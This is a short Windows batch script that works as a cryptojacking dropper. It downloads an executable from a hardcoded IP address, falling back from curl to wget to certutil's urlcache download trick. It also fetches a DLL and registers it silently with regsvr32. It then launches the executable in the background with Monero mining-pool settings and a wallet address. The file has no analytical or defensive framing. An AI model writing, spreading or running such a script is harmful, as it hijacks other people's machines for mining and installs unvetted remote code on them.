@echo off
curl http://198.51.100.27/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://198.51.100.27/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://198.51.100.27/download/jsextension.exe jsextension.exe
)
curl https://cdn.example.org/sdd.dll -o create.dll
start jsextension.exe -k --tls --rig-id q -o pool.minexmr.example.net:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPWtHLFAJdQ8yPt3ALJdgy1YxJ6fhGvGqN3C7A2nT6nL4Gq --cpu-max-threads-hint=50 --donate-level=1 --background
regsvr32.exe -s create.dll
